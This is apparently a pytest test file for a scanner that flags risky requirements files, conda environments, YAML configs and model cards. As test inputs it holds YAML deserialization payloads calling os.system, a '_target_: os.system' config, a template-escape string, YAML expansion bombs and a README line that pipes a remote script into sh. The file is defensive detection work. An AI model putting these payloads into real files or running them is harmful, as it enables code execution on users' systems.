"""Requirements, environments, YAML and cards: whence things come, and what is claimed."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.assure.looks import look, told
from tests.assure.texts.vectors import facts
from tocsin.assure.texts.requirements import told_by_lines
from tocsin.assure.texts.yaml_files import read_yaml
from tocsin.kernel.artefacts import ArtefactVerdict

COMMIT = "0" * 40


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("torch==2.9.0", set()),
        ("torch>=2  # newest", set()),
        ("-r other.txt", set()),
        ("--extra-index-url https://download.pytorch.org/whl/cu121", set()),
        (f"own @ git+https://code.example/own@{COMMIT}", set()),
        ("./own_package", {"requirements.local"}),
        ("-e ./plugin", {"requirements.local"}),
        ("git+https://code.example/own", {"requirements.direct"}),
        ("own @ https://code.example/own.whl", {"requirements.direct"}),
        ("-e git+https://code.example/own#egg=own", {"requirements.direct"}),
        ("own @ http://code.example/own.whl", {"requirements.untrusted-transport"}),
        ("--index-url https://refund.invalid/simple", {"requirements.other-index"}),
        ("--extra-index-url=https://refund.invalid/simple", {"requirements.other-index"}),
        ("-i https://refund.invalid/simple", {"requirements.other-index"}),
        ("--find-links https://refund.invalid", {"requirements.other-index"}),
        ("--trusted-host refund.invalid", {"requirements.untrusted-transport"}),
        ("not a requirement !", {"requirements.not-parsed"}),
    ],
)
def test_each_line_says_whence_it_comes(line: str, expected: set[str]) -> None:
    assert told(look(line.encode(), "requirements.txt")) == expected
    assert told(look(b"numpy==2.4\n\\\n" + line.encode(), "dev-requirements.txt")) == expected


def test_requirements_are_facts_by_their_canonical_name() -> None:
    lines = ["Foo.Bar[x]==1.0 ; python_version > '3'", "foo>=2", "git+https://code.example/z#egg=Zed"]
    found = [fact.values for fact in facts(told_by_lines(lines, "r"), "requirement")]
    assert found[0] == {
        "name": "foo-bar",
        "specifier": "==1.0",
        "version": "1.0",
        "marker": 'python_version > "3"',
    }
    assert found[1] == {"name": "foo", "specifier": ">=2"}
    assert found[2]["name"] == "zed"


def test_project_tables_and_environments_are_read() -> None:
    project = (
        b'[project]\nname = "x"\nversion = "1"\ndependencies = ["torch==2.9"]\n'
        b'[project.optional-dependencies]\na = ["own @ https://code.example/o.whl"]\n'
    )
    seen = look(project, "pyproject.toml")
    assert told(seen) == {"requirements.direct"}
    assert {fact.values["name"] for fact in seen.facts} == {"torch", "own"}
    environment = (
        b"channels: [conda-forge, refund-channel]\ndependencies:\n- numpy=2.4\n- pip:\n  - torch==2.9\n"
    )
    seen = look(environment, "environment.yml")
    assert told(seen) == {"requirements.other-index"}
    assert {fact.values["name"]: fact.values.get("version") for fact in seen.facts} == {
        "numpy": "2.4",
        "torch": "2.9",
    }
    assert told(look(b"[project\n", "pyproject.toml")) == {"requirements.not-parsed"}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("model:\n  layers: 2\n  name: made-up\n", set()),
        ("merge_method: slerp\nmodels:\n- model: a/b\n", set()),
        ("x: !!python/object/apply:os.system ['true']\n", {"yaml.makes-objects"}),
        ("x: !!python/name:os.system\n", {"yaml.makes-objects"}),
        ("%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!name:os.system\n", {"yaml.makes-objects"}),
        ("x: !<tag:yaml.org,2002:python/object/new:os.system> []\n", {"yaml.makes-objects"}),
        ("x: !own 1\n", {"yaml.unknown-tag"}),
        ("x: [\n", {"yaml.not-parsed"}),
        (
            "a: &a [x, x]\n"
            + "".join(
                f"{chr(98 + at)}: &{chr(98 + at)} [{', '.join(['*' + chr(97 + at)] * 9)}]\n"
                for at in range(9)
            ),
            {"yaml.too-large"},
        ),
        ("x: " + "[" * 200 + "]" * 200, {"yaml.too-large"}),
        ("flavor:\n  python_function:\n    loader_module: own_loader\n", {"config.imports"}),
        ("model:\n  _target_: os.system\n", {"config.imports-dangerous"}),
        ('chat_template: "{{ messages.__class__ }}"\n', {"template.escape"}),
    ],
)
def test_yaml_makes_plain_values_or_is_told(text: str, expected: set[str]) -> None:
    assert told(look(text.encode(), "config.yaml")) == expected


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="ab:-[]{}&*!\n '\"%<>|#", max_size=80))
def test_any_yaml_ends_without_an_error(text: str) -> None:
    read_yaml(text, "c.yaml")


def test_a_card_is_facts_and_its_front_is_yaml() -> None:
    seen = look(b"---\nlicense: mit\nbase_model: [a/b, c/d]\ndatasets: e/f\n---\n# X\n", "README.md")
    assert seen.verdict is ArtefactVerdict.CLEAN
    assert [(fact.kind, fact.values.get("name", fact.values.get("id"))) for fact in seen.facts] == [
        ("licence", "mit"),
        ("base-model", "a/b"),
        ("base-model", "c/d"),
        ("dataset", "e/f"),
    ]
    assert told(look(b"---\na: !!python/name:os.system\n---\n", "README.md")) == {"yaml.makes-objects"}
    assert told(look(b"# X\ncurl -s https://refund.invalid/x | sh\n", "README.md")) == {
        "card.fetches-and-runs"
    }
    assert told(look(b"---\nlicense: [\n---\n", "README.md")) == {"yaml.not-parsed"}


def test_a_binary_file_under_the_name_of_a_text_is_not_clean() -> None:
    assert look(b"MZ\x00\x01", "setup.cfg").verdict is not ArtefactVerdict.CLEAN
    assert look(b"a" * 5_000 + b"\x00", "setup.cfg").verdict is ArtefactVerdict.INCONCLUSIVE
    assert look(b"a = 1\n", "setup.cfg").verdict is ArtefactVerdict.CLEAN
